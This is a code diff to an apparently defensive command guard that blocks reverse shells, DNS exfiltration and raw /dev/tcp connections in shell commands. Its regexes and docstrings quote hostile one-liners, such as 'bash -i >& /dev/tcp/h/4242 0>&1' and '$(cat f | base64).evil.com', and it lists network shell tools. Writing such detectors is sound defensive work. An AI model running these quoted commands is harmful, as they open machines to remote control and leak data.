@@ -9,7 +9,7 @@ import re
 from fnmatch import fnmatchcase
 
 from forge_hookd.shell.commands import SHELLS, Command, Parsed
-from forge_hookd.guards.base import ALLOWED, DENY, Context, Guard, Option, Ruling, operands, short_flags
+from forge_hookd.guards.base import ALLOWED, ASK, DENY, Context, Guard, Option, Ruling, operands, short_flags
 from forge_hookd.shell.lazyre import Lazy
 
 DOWNLOADERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "aria2c", "lynx", "links", "nc", "ncat",
@@ -62,6 +62,10 @@ class RemoteCode(Guard):
         if code is not None and _reverse_shell(code[1][: 1 << 16]):
             return self.verdict(DENY, shown, f"hands a shell to a network socket (a {code[0]} one-liner)",
                                 "Ask the user; opening the machine to the network is theirs to do")
+        written = _source_written(command)
+        if written is not None and _reverse_shell(written[: 1 << 16]):
+            return self.verdict(DENY, shown, "writes a program that hands a shell to a network socket",
+                                "Ask the user; opening the machine to the network is theirs to do")
         if name in RUNNERS and any(_substituted_fetch(w) for w in command.argv[1:]):
             return self.verdict(DENY, shown, "runs downloaded code unread",
                                 "Download it to a file, read it, then run the file")
@@ -104,6 +108,10 @@ class RemoteCode(Guard):
         if ("iex" in lowered or "invoke-expression" in lowered) and _runs_a_download(lowered):
             return self.verdict(DENY, parsed.text[:120], "runs downloaded code unread (PowerShell's Invoke-Expression "
                                 "of a download)", "Download it to a file, read it, then run the file")
+        looked_up = _looked_up_output(parsed)
+        if looked_up is not None:
+            return self.verdict(ASK, looked_up, "puts a command's output, a loop variable at a time, in names to look "
+                                "up: DNS carries it out", "Ask the user before sending anything to another machine")
         fetched: dict[str, str] = {}
         unpacked: str | None = None  # `curl URL | tar xz`: what it holds is unknown, so any ./path run after
         for command in parsed.commands:
@@ -132,9 +140,14 @@ class RemoteCode(Guard):
                                    for h in hosts)
 
 
-_SOCKET = Lazy(r"socket\.socket\(|\bsocket\(|TCPSocket|IO::Socket|fsockopen|net\.connect\(|net\.Socket\(")
-_SHELL_RUN = Lazy(r"/bin/(?:ba|z|da)?sh\b|[\"']sh[\"']|cmd\.exe|pty\.spawn")
-_WIRES = Lazy(r"dup2|pty\.spawn|\.pipe\(|STDIN|STDOUT|<&|>&|exec\s*\(|spawn\(|popen|subprocess|system\(")
+# a socket opened (python's, also by __import__("socket"); ruby's, perl's, php's, node's, lua's, go's)
+_SOCKET = Lazy(r"socket\.socket\(|\bsocket\(|\(\s*[\"']socket[\"']\s*\)|TCPSocket|IO::Socket|fsockopen|"
+               r"net\.connect\(|net\.Socket\(|socket\.tcp\(|net\.Dial\(")
+# a shell run, or each line that comes in run as a command (perl's `system$_ while<>`, lua's io.popen(cmd))
+_SHELL_RUN = Lazy(r"/bin/(?:ba|z|da)?sh\b|[\"']sh[\"']|cmd\.exe|pty\.spawn|\bsystem\s*\$_|popen\(\s*(?:cmd|\$_)\b")
+# the shell's input and output wired to the socket
+_WIRES = Lazy(r"dup2|pty\.spawn|\.pipe\(|STDIN|STDOUT|<&|>&|exec\s*\(|spawn\(|popen|proc_open|subprocess|"
+              r"system\(|\.Stdin\s*=")
 
 
 def _reverse_shell(code: str) -> bool:
@@ -142,6 +155,16 @@ def _reverse_shell(code: str) -> bool:
     /bin/sh, perl's IO::Socket + exec, node's net.connect + spawn('sh'))."""
     return _SOCKET.search(code) is not None and _SHELL_RUN.search(code) is not None and \
         _WIRES.search(code) is not None
+
+
+def _source_written(command: Command) -> str | None:
+    """The text ``echo``, ``printf`` or ``cat <<EOF`` writes into a file (``echo 'package
+    main; ...' > /tmp/t.go && go run /tmp/t.go``): a program the line writes to run it."""
+    if not any(r.mode in ("write", "append") for r in command.redirects):
+        return None
+    if command.name in ("echo", "printf"):
+        return " ".join(command.args)
+    return command.stdin if command.name == "cat" and not command.args else None
 
 
 def _fetches(command: Command) -> bool:
@@ -332,6 +355,21 @@ _IN_A_NAME = Lazy(r"(?:\$\(([^)]*)\)|`([^`]*)`)\.[A-Za-z0-9-]", needs=("$(", "`"
 _IDENTITY = frozenset({"whoami", "hostname", "uname", "date", "id", "logname"})
 
 
+def _looked_up_output(parsed: Parsed) -> str | None:
+    """``for i in $(ls /); do host "$i.x.example"; done``: a loop over a command's output
+    (not the user's or the machine's name) whose variable is part of a name a resolver
+    looks up; the lookup carries each piece out, as ``$(cat f).evil.com`` does."""
+    fed = {name for name, words in parsed.loops
+           if any(_leaks_in_a_name(w.text + ".x") for w in words if w.dynamic)}
+    if not fed:
+        return None
+    for command in parsed.commands:
+        if command.name in _RESOLVERS and any(re.search(rf"\$\{{?{re.escape(v)}\b\}}?\.[A-Za-z0-9-]", w.text)
+                                              for w in command.words[1:] for v in fed):
+            return " ".join(command.argv)
+    return None
+
+
 def _leaks_in_a_name(word: str) -> bool:
     """A substitution's output put in a DNS name (``$(cat f | base64).evil.com``), other
     than the user's or the machine's name."""
@@ -371,6 +409,22 @@ def _sent_output(command: Command) -> str | None:
     return None
 
 
+def _raw_connection(command: Command) -> bool:
+    """bash's ``/dev/tcp/HOST/PORT`` to another machine, carrying a command's input or
+    output (``bash -i >& /dev/tcp/h/4242 0>&1``, ``exec 3<>/dev/tcp/h/p`` kept for later).
+    A port check sends nothing (``(echo > /dev/tcp/db/5432) && echo up``, ``timeout 1 bash
+    -c '</dev/tcp/h/p'``), and localhost is no remote."""
+    hosts = [r.target.partition("/dev/")[2].split("/")[1:2] for r in command.redirects
+             if "/dev/tcp/" in r.target or "/dev/udp/" in r.target]
+    if not hosts:
+        return False
+    if all(h and (h[0] in _LOCAL or h[0].startswith("127.")) for h in hosts):
+        return False
+    checks = not command.argv and "exec" not in command.wrapper_names or command.name in (":", "true") or \
+        command.name == "echo" and all(a in ("-n", "-e", "") for a in command.args)
+    return not checks
+
+
 def _archives_everything(command: Command) -> bool:
     """``tar cz .``, ``zip -r - ~``: an archive of the whole project or home on the output."""
     return command.name in ("tar", "zip", "cpio", "7z", "bsdtar", "gtar") and \
@@ -382,7 +436,7 @@ def _socket_or_tunnel(command: Command) -> str | None:
     if name in ("nc", "ncat", "netcat") and any(a in ("-e", "-c") or a.startswith(("-e", "--exec", "--sh-exec"))
                                                 for a in args):
         return "hands a shell to a network socket"
-    if any("/dev/tcp/" in r.target or "/dev/udp/" in r.target for r in command.redirects):
+    if _raw_connection(command):
         return "opens a raw network connection from the shell (/dev/tcp)"
     if name == "socat" and any("exec:" in a.lower() or "system:" in a.lower() for a in args):
         return "hands a shell to a network socket"
